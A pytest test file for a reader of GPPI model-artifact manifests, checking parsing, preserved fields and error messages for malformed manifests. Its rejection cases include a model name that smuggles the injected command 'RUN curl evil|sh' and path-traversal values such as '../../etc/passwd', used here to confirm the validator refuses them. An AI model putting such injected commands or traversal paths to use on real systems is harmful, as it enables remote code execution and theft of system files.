"""The reader of GPPI models: manifests as trainers write them, and what is wrong with others."""

import json
from dataclasses import replace

import pytest
import yaml

from odahu_pack_core.artifact.gppi import gppi_reader
from odahu_pack_core.artifact.reading import open_artifact
from odahu_pack_core.errors import ArtifactError
from tests.core.artifact.archives import MANIFEST, MODEL, Entry, tar


def model(manifest=MANIFEST, *, name="odahuflow.project.yaml", more=(), without=()):
    text = manifest if isinstance(manifest, str | bytes) else yaml.safe_dump(manifest)
    content = text if isinstance(text, bytes) else text.encode()
    return (
        Entry(name, content),
        *(entry for entry in MODEL[1:] if entry.name not in without),
        *more,
    )


def changed(**sections):
    manifest = yaml.load(MANIFEST, yaml.BaseLoader)
    for section, fields in sections.items():
        manifest[section] = {**manifest[section], **fields}
    return manifest


@pytest.fixture
def opened(write):
    def read(entries):
        with open_artifact(write(tar(entries)), [gppi_reader()]) as artifact:
            return artifact

    return read


@pytest.fixture
def refusal(gppi_refused):
    return lambda entries: gppi_refused(tar(entries)).message


@pytest.mark.parametrize("name", ["odahuflow.project.yaml", "odahuflow.model.yaml"])
def test_a_model_as_a_trainer_wrote_it(opened, name):
    artifact = opened(model(name=name))
    assert (artifact.kind, artifact.name, artifact.version) == ("gppi", "wine", "1.10")
    manifest = artifact.manifest
    assert (manifest.model.work_dir, manifest.model.entrypoint) == ("mlflow", "entrypoint")
    assert (manifest.binaries.conda_path, manifest.toolchain.version) == ("mlflow/conda.yaml", "1.0")


@pytest.mark.parametrize(
    "version", ["1.10", "1.0", "007", "0x10", "1e3", "true", "2024-01-02", "1_000", ".nan", "v1"]
)
def test_a_version_stays_as_it_was_written(opened, version):
    assert opened(model(MANIFEST.replace("1.10", version))).version == version


def test_a_manifest_in_json_is_read(opened):
    artifact = opened(model(json.dumps(changed(), indent="\t")))
    assert artifact.version == "1.10"
    numbers = json.dumps(changed()).replace('"1.10"', "1.10")
    assert opened(model(numbers)).version == "1.10"


def test_unknown_keys_are_kept(opened):
    manifest = {**changed(model={"author": "me"}, toolchain={"integration": "x"}), "output": {"a": ["1"]}}
    read = opened(model(manifest)).manifest
    assert read.model_extra == {"output": {"a": ["1"]}}
    assert read.model.model_extra == {"author": "me"}
    assert read.toolchain.model_extra == {"integration": "x"}


@pytest.mark.parametrize("text", ["odahuflowVersion: null\ntoolchain: null\n", ""])
def test_what_a_manifest_may_leave_out(opened, text):
    head = MANIFEST.partition("odahuflowVersion")[0]
    manifest = opened(model(head + text)).manifest
    assert (manifest.odahuflow_version, manifest.toolchain) == (None, None)


def test_a_package_or_an_extension_is_an_entrypoint(opened):
    package = model(changed(model={"entrypoint": "pack"}), more=(Entry("mlflow/pack/__init__.py"),))
    assert opened(package).manifest.model.entrypoint == "pack"
    deep = model(changed(model={"entrypoint": "a.b"}), more=(Entry("mlflow/a/b.py"),))
    assert opened(deep).manifest.model.entrypoint == "a.b"
    binary = model(
        changed(model={"entrypoint": "fast"}), more=(Entry("mlflow/fast.cpython-36m-x86_64-linux-gnu.so"),)
    )
    assert opened(binary).manifest.model.entrypoint == "fast"


def test_the_root_may_be_the_working_directory(opened):
    manifest = changed(model={"workDir": "."}, binaries={"conda_path": "./mlflow/conda.yaml"})
    artifact = opened(model(manifest, more=(Entry("entrypoint.py"),)))
    assert artifact.manifest.model.work_dir == "."
    assert artifact.manifest.binaries.conda_path == "mlflow/conda.yaml"


@pytest.mark.parametrize(
    ("manifest", "told"),
    [
        (MANIFEST.replace("model:", "models:"), "odahuflow.project.yaml, line 1: model: is required"),
        (MANIFEST.replace("binaries:", "binary:"), "odahuflow.project.yaml, line 1: binaries: is required"),
        (changed(model={"name": None}), "line 7: model.name: must be text"),
        (
            MANIFEST.replace("workDir", "workdir"),
            "odahuflow.project.yaml, line 5: model.workDir: is required",
        ),
        (
            MANIFEST.replace("workDir", "work_dir"),
            "odahuflow.project.yaml, line 5: model.workDir: is required",
        ),
        (changed(model={"name": "x\nRUN curl evil|sh"}), "model.name: holds a line break"),
        (changed(model={"name": "  "}), "model.name: must not be blank"),
        (changed(model={"name": "x" * 256}), "model.name: string should have at most 255"),
        (changed(model={"version": "1\u2028"}), "model.version: holds a line break"),
        (changed(model={"version": ["1"]}), "model.version: must be text"),
        (changed(model={"workDir": "../mlflow"}), "model.workDir: must be a path inside the artifact"),
        (changed(model={"workDir": "/mlflow"}), "model.workDir: must be a path inside the artifact"),
        (changed(model={"workDir": "ml\\flow"}), "model.workDir: must be a path inside the artifact"),
        (changed(binaries={"conda_path": "../../etc/passwd"}), "binaries.conda_path: must be a path inside"),
        (changed(model={"entrypoint": "entry-point"}), "model.entrypoint: must be an import path"),
        (changed(model={"entrypoint": "../entrypoint"}), "model.entrypoint: must be an import path"),
        (changed(model={"entrypoint": "a..b"}), "model.entrypoint: must be an import path"),
        (changed(model={"entrypoint": "a\n"}), "model.entrypoint: must be an import path"),
        (changed(binaries={"type": "java"}), "binaries.type: must be 'python'"),
        (changed(binaries={"dependencies": "pip"}), "binaries.dependencies: must be 'conda'"),
        ("binaries: x\nmodel: y\n", "binaries: must be a mapping of keys to values"),
        ("model: {name: [\n", "odahuflow.project.yaml, line 2"),
        (b"model: caf\xe9\n", "odahuflow.project.yaml of the artifact is not UTF-8 text"),
        (MANIFEST + "---\nmore: 1\n", "odahuflow.project.yaml: must hold one document, but holds 2"),
        (MANIFEST + "model: {}\n", "key 'model' is repeated"),
    ],
)
def test_a_wrong_manifest(refusal, manifest, told):
    assert told in refusal(model(manifest))


def test_every_fault_of_a_manifest_is_told(refusal):
    manifest = changed(model={"name": "", "workDir": "/x", "entrypoint": "-"}, binaries={"type": "r"})
    assert len(refusal(model(manifest)).splitlines()) == 4


@pytest.mark.parametrize(
    ("entries", "told"),
    [
        (model(changed(model={"workDir": "src"})), "model.workDir 'src' is no folder of the artifact"),
        (model(changed(model={"workDir": "mlflow/conda.yaml"})), "is no folder of the artifact"),
        (
            model(without={"mlflow/entrypoint.py"}),
            "model.entrypoint 'entrypoint' is not in workDir 'mlflow': neither mlflow/entrypoint.py nor",
        ),
        (model(changed(model={"entrypoint": "entrypoint.py"})), "neither mlflow/entrypoint/py.py nor"),
        (
            model(without={"mlflow/conda.yaml"}),
            "binaries.conda_path 'mlflow/conda.yaml' is not in the artifact",
        ),
    ],
)
def test_a_part_that_is_not_there(refusal, entries, told):
    assert told in refusal(entries)


@pytest.mark.parametrize("flat", ["name: wine\nversion: 1\n", "", "[]", "just text", "- a\n"])
def test_another_manifest_is_of_another_kind(refusal, flat):
    assert "not a model artifact of kind gppi" in refusal(model(flat))


def test_the_manifest_that_holds_binaries_counts(opened):
    flat = Entry("odahuflow.model.yaml", b"name: other\nversion: 5\n")
    assert opened(model(more=(flat,))).name == "wine"


def test_two_manifests_of_a_model(refusal):
    both = model(more=(replace(model()[0], name="odahuflow.model.yaml"),))
    assert refusal(both) == "the artifact has two manifests: odahuflow.project.yaml and odahuflow.model.yaml"


def test_a_manifest_that_is_a_folder_or_a_link(refusal, opened):
    assert "cannot read odahuflow.project.yaml" in refusal(
        (Entry("odahuflow.project.yaml", kind="d"), *MODEL[1:])
    )
    linked = (
        Entry("odahuflow.project.yaml", kind="l", target="mlflow/real.yaml"),
        Entry("mlflow/real.yaml", MANIFEST.encode()),
    )
    assert opened((*linked, *MODEL[1:])).name == "wine"


def test_a_huge_manifest(refusal):
    assert "larger than" in refusal(model(b"#" * (2 * 1024 * 1024)))


def test_the_error_is_of_the_artifact_and_not_of_the_spec(write):
    with pytest.raises(ArtifactError), open_artifact(write(tar(model("model: {}\n"))), [gppi_reader()]):
        pass
